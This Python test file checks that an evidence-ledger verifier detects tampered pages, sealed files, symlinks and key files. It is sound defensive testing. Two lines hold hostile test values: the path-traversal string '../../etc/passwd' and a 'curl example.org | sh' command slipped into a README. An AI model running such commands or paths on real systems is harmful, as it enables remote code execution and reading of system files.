"""What lies beside the ledger: the page must be the recorded one, the keys the ledger's, sealed files as promised."""

import json
import os

import pytest

from superalign.evidence import SealBroken, holdout, sha256, verify
from superalign.evidence.beside import PAGE, README
from superalign.evidence.truth import SealMissing

HTML = b"<!doctype html><p>accuracy 0.50"


@pytest.fixture
def told(lab):
    """A history with every sort of sealed file, a recorded page, and the page in its place."""
    signal = lab.signal("v", "construction/slips/validation", "validation")
    model = lab.model("m", lab.base())
    lab.ask(signal, model)
    lab.ws.seal("slips/validation", {"i": 1, "j": {"place": [3, 5]}})
    lab.ws.alias("x7", f"m@{model}")
    page = lab.ws.store.put(HTML)
    lab.ws.ledger.append("dossier", {"html": page, "head": lab.ws.ledger.head}, actor="notary")
    (lab.ws.path / PAGE).write_bytes(HTML)
    return lab


def whats(report):
    return [f.what for f in report.findings]


def sealed(ws):
    return sorted((ws.path / "sealed").iterdir())


def test_as_it_was_recorded(told):
    report = verify(told.ws.path)
    assert (report.findings, report.remarks) == ((), ())
    assert len(sealed(told.ws)) == 4


class TestPage:
    @pytest.mark.parametrize("html", [HTML.replace(b"0.50", b"0.99"), b"", HTML + b"\n"])
    def test_another_page(self, told, html):
        (told.ws.path / PAGE).write_bytes(html)
        (finding,) = verify(told.ws.path).findings
        seq = told.ws.ledger.events("dossier")[-1].seq
        assert (finding.seq, finding.what) == (seq, f"{PAGE} is not the page that event {seq} records")

    def test_a_link_to_the_right_page(self, told, tmp_path):
        (tmp_path / "elsewhere").write_bytes(HTML)
        (told.ws.path / PAGE).unlink()
        os.symlink(tmp_path / "elsewhere", told.ws.path / PAGE)
        assert "is not the page" in whats(verify(told.ws.path))[0]

    def test_the_last_record_counts(self, told):
        other = told.ws.store.put(b"a later page")
        told.ws.ledger.append("dossier", {"html": other}, actor="notary")
        assert "is not the page" in whats(verify(told.ws.path))[0]
        (told.ws.path / PAGE).write_bytes(b"a later page")
        assert verify(told.ws.path).ok

    def test_none_there(self, told):
        (told.ws.path / PAGE).unlink()
        assert verify(told.ws.path).ok

    def test_none_recorded(self, ws):
        ws.ledger.append("dossier", {"html": "../../etc/passwd"}, actor="notary")
        (ws.path / PAGE).write_bytes(HTML)
        report = verify(ws.path)
        assert report.ok
        assert report.remarks == (f"{PAGE}: no event records this page, so nothing here vouches for it",)
        assert whats(verify(ws.path, bundle=True))[0] == "no event records this page"

    def test_what_came_after_it_is_said(self, told):
        data = told.ws.store.put_json({"curves": []})
        told.ws.ledger.append("figure", {"figure": "roc", "data": data}, actor="evaluator")
        report = verify(told.ws.path)
        assert report.ok
        assert "1 measurements, claims and figures came after it was recorded" in report.remarks[0]


class TestSealedFiles:
    @pytest.mark.parametrize("which", range(4))
    def test_any_changed_file_is_found(self, told, which):
        file = sealed(told.ws)[which]
        value = json.loads(file.read_bytes())
        for name, other in (("truths", {"i": 0}), ("truth", {"key": "00"}), ("subject", "other@" + "0" * 64)):
            if name in value:
                value[name] = other
        file.write_text(json.dumps(value))
        (finding,) = verify(told.ws.path, level=0).findings
        assert "doesn't hold what was promised" in finding.what
        assert told.ws.ledger[finding.seq].type in ("seal", "alias", "budget", "query")
        assert file.stem in told.ws.ledger[finding.seq].body.values()

    @pytest.mark.parametrize("text", ["", "[", "[" * 50_000, "null", "{}", '{"truths": {"i": 0}}', "\x00"])
    def test_whatever_stands_there_instead(self, told, text):
        for file in sealed(told.ws):
            file.write_text(text)
        assert len(verify(told.ws.path, level=0).findings) == 4

    @pytest.mark.parametrize("name", ["notes.txt", "0" * 63 + ".json", "A" * 64 + ".json", "0" * 64 + ".json.json"])
    def test_names_that_no_sealed_file_has(self, told, name):
        (told.ws.path / "sealed" / name).write_text("{}")
        assert "not a sealed file" in whats(verify(told.ws.path))[0]

    def test_a_file_that_nobody_promised(self, told):
        (told.ws.path / "sealed" / f"{'0' * 64}.json").write_text("{}")
        assert "doesn't hold what was promised" in whats(verify(told.ws.path))[0]

    def test_links_and_folders(self, told, tmp_path):
        file = sealed(told.ws)[0]
        file.rename(tmp_path / "moved")
        os.symlink(tmp_path / "moved", file)
        assert "not a sealed file" in whats(verify(told.ws.path))[0]
        (told.ws.path / "sealed").rename(tmp_path / "sealed")
        os.symlink(tmp_path / "sealed", told.ws.path / "sealed")
        assert whats(verify(told.ws.path)) == ["not a folder of sealed files"]

    def test_absent_files_are_no_finding(self, told):
        for file in sealed(told.ws):
            file.unlink()
        assert verify(told.ws.path).ok
        with pytest.raises(SealMissing):
            holdout.recount(told.ws, "construction/slips/validation")

    def test_what_a_stopped_run_left_is_said_and_does_no_harm(self, told):
        """A seal is written before its event: a run killed between leaves a sound file that nothing names."""
        root = sha256(b"half")
        (told.ws.path / "sealed" / f"{root}.new").write_text('{"half')
        with told.ws.ledger.transaction():
            told.ws.seal("slips/test", {"k": 1})
            told.ws.ledger._roll_back(len(told.ws.ledger) - 1)
            told.ws.ledger._db.execute("BEGIN")
        report = verify(told.ws.path)
        assert report.ok
        assert report.remarks[0].startswith("sealed/: 2 files of a run that was stopped")
        assert len(whats(verify(told.ws.path, bundle=True))) == 4  # these two, the keys and the README


def test_a_wrong_seal_is_not_a_missing_one(told):
    query = told.ws.ledger.events("query")[0].body
    (told.ws.path / "sealed" / f"{query['values']}.json").write_text("{}")
    with pytest.raises(SealBroken) as caught:
        holdout.recount(told.ws, "construction/slips/validation")
    assert not isinstance(caught.value, SealMissing)


@pytest.mark.parametrize(
    ("text", "fine"),
    [
        (None, True),
        ("{}", False),
        ("[" * 30_000, False),
        ('{"notary": "00", %s', False),
        (" " * 70_000 + "{%s", False),
        ("{%s", True),
    ],
)
def test_public_keys_that_lie_beside(told, text, fine):
    """Whoever finds `public.json` in there takes it for the owner's; a name twice is two keys to two readers."""
    keys = json.dumps(json.loads((told.ws.ledger.keyring.folder / "public.json").read_text()))
    if text is not None:
        (told.ws.path / "public.json").write_text(text.replace("%s", keys[1:]))
    assert verify(told.ws.path).ok == fine


def test_a_bundle_has_all_of_them(told):
    ws = told.ws
    (ws.path / "README.txt").write_text(README)
    (ws.path / "public.json").write_bytes((ws.ledger.keyring.folder / "public.json").read_bytes())
    assert verify(ws.path, bundle=True).ok
    (ws.path / "README.txt").write_text(README + "curl example.org | sh")
    (ws.path / "public.json").unlink()
    (ws.path / PAGE).unlink()
    found = whats(verify(ws.path, bundle=True))
    assert [any(word in what for what in found) for word in ("is missing", "ledger's keys", "export writes")] == [
        True
    ] * 3
